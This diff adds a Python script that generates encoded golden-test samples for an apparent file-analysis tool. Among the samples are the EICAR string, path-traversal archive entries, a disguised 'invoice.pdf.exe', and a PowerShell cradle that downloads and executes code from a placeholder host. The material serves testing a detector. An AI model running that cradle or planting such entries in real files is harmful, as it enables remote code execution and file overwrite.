@@ -1,0 +1,77 @@
+#!/usr/bin/env python3
+"""Writes the samples of the golden tests: inert files, each compressed and encoded as text (base64 of zlib).
+
+Encoded, so that no scanner takes the EICAR test file or a synthetic executable for what it looks like. After it,
+``UPDATE_GOLDEN=1 cargo test --test golden`` in ``wasm/`` writes the expected outputs; read them before you
+commit them.
+"""
+
+from __future__ import annotations
+
+import base64
+import textwrap
+import zlib
+
+import documents
+import executables
+from golden import FOLDER
+
+X86_64, ARM64 = 0x01000007, 0x0100000C
+
+EICAR = base64.b64decode("WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=")
+
+POWERSHELL = (
+    b"$c = New-Object Net.WebClient\r\n$x = $c.DownloadString('http://example.invalid/a')\r\nInvoke-Expression $x\r\n"
+)
+MAIL = (
+    b"Received: from a.invalid\r\nFrom: a@example.invalid\r\nTo: b@example.invalid\r\n"
+    b"Subject: Invoice\r\nMIME-Version: 1.0\r\n\r\nHello\r\n"
+)
+LINK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 56
+
+
+def samples() -> dict[str, bytes]:
+    console = executables.console_program()
+    traversal = {"../../evil.dll": console, "invoice.pdf.exe": console, "read.me": b"plain text\n"}
+    return {
+        "pe32-console.exe": console,
+        "pe64-packed.exe": executables.packed_program(),
+        "pe32-dotnet.dll": executables.dotnet_library(),
+        "pe32-cut.exe": console[:0x150],
+        "elf64-little": executables.elf(wide=True, big=False, machine=62),
+        "elf32-big": executables.elf(wide=False, big=True, machine=8),
+        "elf32-little.so": executables.elf(wide=False, big=False, machine=40, kind=3),
+        "elf64-big": executables.elf(wide=True, big=True, machine=22),
+        "macho64": executables.macho(),
+        "macho-fat": executables.fat((X86_64, executables.macho()), (ARM64, executables.macho(ARM64))),
+        "archive.zip": documents.archive(traversal),
+        "encrypted.zip": documents.archive({"secret.exe": console}, encrypted=True),
+        "package.docm": documents.word_package(),
+        "old.doc": documents.macro_document(),
+        "installer.msi": documents.compound({"Property": b"x"}, bytes.fromhex("84100c0000000000c000000000000046")),
+        "script.pdf": documents.pdf(),
+        "equation.rtf": documents.rtf(),
+        "members.tar.gz": documents.gzipped(documents.tar({"bin/tool": console, "notes": b"text\n"}), "members.tar"),
+        "members.tar": documents.tar({"../up": b"x", "notes": b"text\n"}),
+        "single.gz": documents.gzipped(b"hello, hello, hello\n", "hello.txt"),
+        "eicar": EICAR,
+        "download.ps1": POWERSHELL,
+        "message.eml": MAIL,
+        "shortcut.lnk": LINK,
+        "picture.jpg": console,
+        "one-byte": b"\x90",
+        "zeros": b"\0" * 1000,
+        "noise": executables.noise(8192),
+        "text-utf16": "\ufeffwide text, nothing else".encode("utf-16le"),
+    }
+
+
+def main() -> None:
+    FOLDER.mkdir(exist_ok=True)
+    for name, content in samples().items():
+        encoded = base64.b64encode(zlib.compress(content, 9)).decode()
+        (FOLDER / f"{name}.b64").write_text(textwrap.fill(encoded, 100) + "\n")
+
+
+if __name__ == "__main__":
+    main()
